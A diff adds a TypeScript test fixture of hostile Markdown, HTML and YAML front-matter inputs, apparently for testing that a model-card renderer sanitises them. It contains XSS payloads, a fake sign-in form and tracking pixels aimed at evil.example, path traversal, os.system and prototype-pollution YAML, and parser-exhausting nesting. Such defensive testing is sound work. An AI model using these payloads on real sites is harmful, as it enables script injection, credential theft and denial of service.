@@ -1,0 +1,93 @@
+// Cards that mean harm, each by another way: none of it may reach a page.
+const long = (text: string, times: number) => text.repeat(times);
+
+/** By what they try. */
+export const hostileCards: Record<string, string> = {
+  'a script': '<script>alert(1)</script>\n\ntext',
+  'a script in a line': 'a <script>alert(1)</script> b',
+  'a script in capitals, never closed': '<SCRIPT SRC=//evil.example/x.js>\n\nalert(1)',
+  'a script split by another': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'a script behind a comment': '<!-- --><script>alert(1)</script><!-- -->',
+  'a comment that never ends': '<!-- <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>',
+  'a picture with a handler': '<img src=x onerror="alert(1)">',
+  'a picture of HTML with a source set': '<picture><source srcset="https://evil.example/x.webp"><img></picture>',
+  'a style': '<style>body { display: none; background: url(https://evil.example/x) }</style>\n\ntext',
+  'a style attribute': '<div style="position:fixed;inset:0">over the page</div>',
+  'a frame': '<iframe src="https://evil.example/"></iframe>\n\n<iframe srcdoc="<script>alert(1)</script>">',
+  'an object and an embed': '<object data="https://evil.example/x.swf"></object>\n<embed src="https://evil.example/x">',
+  'an SVG with a script': '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/x"/></svg>',
+  'MathML around a style':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
+  'a form': '<form action="https://evil.example/"><input name=token><button>Sign in</button></form>',
+  'a base': '<base href="https://evil.example/">\n\n[a](b.txt)',
+  'a meta refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+  'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
+  'a link with a handler': '<a href="#" onclick="alert(1)">click</a>',
+  'a video and a sound': '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a">',
+  'a template and a slot': '<template shadowrootmode=open><script>alert(1)</script></template>',
+  'marks without an end': '<img src="https://evil.example/\n\n<a <b <c',
+  'a javascript link': '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](<java\tscript:alert(1)>)',
+  'a javascript link in entities':
+    '[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](&#x1;javascript:alert(1))',
+  'a javascript definition': '[a] ![b][a]\n\n[a]: javascript:alert(1)',
+  'an autolink of another kind': '<javascript:alert(1)> <data:text/html,x> <file:///etc/passwd>',
+  'a data link': '[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml,<svg/onload=alert(1)>)',
+  'a vbscript, a blob and a file':
+    '[a](vbscript:x) [b](blob:https://evil.example/x) [c](file:///etc/passwd) [d](view-source:x)',
+  'a remote picture': '![pixel](https://evil.example/pixel.gif?who "title")',
+  'a remote picture by reference': '![pixel][p]\n\n[p]: https://evil.example/pixel.gif',
+  'a picture in a link': '[![badge](https://evil.example/b.svg)](https://evil.example/)',
+  'quotes in addresses':
+    '[a](https://evil.example/"onmouseover="alert(1)) [b](<https://evil.example/\'><script>alert(1)</script>>)',
+  'quotes in a title': '[a](https://evil.example/ "x\\" onclick=\\"alert(1)")',
+  'quotes in alternatives': '![x" onerror="alert(1)](https://evil.example/)',
+  'marks in code': '`<script>alert(1)</script>`\n\n```html\n</code></pre><script>alert(1)</script>\n```',
+  'the language of code': '```"><script>alert(1)</script>\nx\n```\n\n```js onload=alert(1)\n```',
+  'a heading that is our own id':
+    '# files\n\n# model-card-title\n\n# get-title\n\n# in-card-files\n\n<h1 id="files">x</h1>',
+  'a heading of marks': '# <img src=x onerror=alert(1)>\n\n## "onclick="alert(1)',
+  'headings of the first level': '# one\n\n# two\n\none\n===\n',
+  'cells of marks': '|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:1)|',
+  'a name and a password in an address':
+    '[bank](https://bank.example@evil.example/) [b](https://user:word@evil.example/)',
+  'an address without a scheme': '[a](//evil.example/x) ![b](\\\\evil.example\\x) [c](/\\evil.example)',
+  'paths out of the repository':
+    '[a](../../etc/passwd) [b](%2e%2e/%2e%2e/x) [c](..%2f..%2fx) [d](/account/) [e](/api/account/saved)',
+  'paths with marks': '[a](config.json%00) [b](config.json%22onclick) [c](%ff%fe) [d](config.json%0d%0aX)',
+  'our stand-in by its name': '[a](https://card.invalid/config.json) [b](//card.invalid/config.json)',
+  'text that turns round': 'a\u202eexe.txt\u202c [\u2066b](https://evil.example/\u202e)',
+  'control characters': 'a\u0000b\u0007c\u001b[31md\u009be',
+  'half a surrogate pair in code': '`\ud83d\ufffd`'.replace('\ud83d', ''),
+  'footnotes that name one another': '[^a]\n\n[^a]: x [^b] <script>alert(1)</script>\n\n[^b]: y [^a] [^b]',
+  'footnotes with hostile names': '[^"><script>] [^x]\n\n[^"><script>]: a\n\n[^x]: [j](javascript:1)',
+  'the room of the figures': '<!--figures--> `<!--figures-->` &lt;!--figures--&gt;',
+  'a page of entities': '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62;',
+  'a list that begins at a large number': '999999999. a\n\n-1. b',
+  'quotes in quotes': long('>', 10_000),
+  'lists in lists': long('- ', 10_000).concat('a'),
+  'numbers in numbers': long('1. ', 10_000).concat('a'),
+  'quotes in many lines': long(`${long('> ', 20)}a\n\n`, 3000),
+  'lists by indentation': Array.from({ length: 300 }, (_, at) => `${' '.repeat(2 * at)}- a`).join('\n'),
+  'emphasis without an end': long('**a', 40_000),
+  'strokes without an end': long('~~a ', 30_000),
+  'emphasis in emphasis': `${long('*', 900)}a${long('*', 900)}`,
+  'brackets without an end': long('[', 20_000),
+  'links in links': `${long('[a', 3000)}${long('](b)', 3000)}`,
+  'a definition used ten thousand times': `[a]: https://evil.example/${long('x', 1900)}\n\n${long('[a] ', 10_000)}`,
+  'a table of many columns': `${long('a|', 5000)}\n${long('-|', 5000)}\n${long('|', 5000)}`,
+  'an address without an end': `[a](https://evil.example/${long('x', 100_000)})`,
+  'more lines than a card has': long('a\n\n', 20_000),
+  'more text than is laid out': long('word ', 50_000),
+  'a front matter of another language': '---js\n{ get title() { process.exit(1) } }\n---\ntext',
+  'a front matter with tags':
+    '---\nlanguage: !!js/function "function () { alert(1) }"\nbase_model: !!python/object/apply:os.system [x]\n---\ntext',
+  'a front matter of a billion laughs': `---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\ndatasets: [*b,*b,*b,*b,*b,*b,*b,*b]\n---\ntext`,
+  'a front matter that inherits':
+    '---\n__proto__: { polluted: true }\nconstructor: { prototype: { polluted: true } }\nbase_model: { __proto__: { polluted: true } }\n---\ntext',
+  'a front matter of marks':
+    '---\nlicense_name: "<script>alert(1)</script>"\nlicense_link: javascript:alert(1)\nbase_model: ["\\"onclick=\\"x", "a/b"]\nlanguage: "<img src=x onerror=alert(1)>"\n---\ntext',
+  'a front matter without an end': `---\nlicense: mit\n${long('a: b\n', 100)}`,
+  'a front matter deep in itself': `---\nlanguage: ${long('[', 3000)}${long(']', 3000)}\n---\ntext`,
+  'a front matter of numbers and moments':
+    '---\nlicense: 1\nlanguage: [no, 2, null, true, 2020-01-01]\nbase_model: null\n---\ntext',
+};
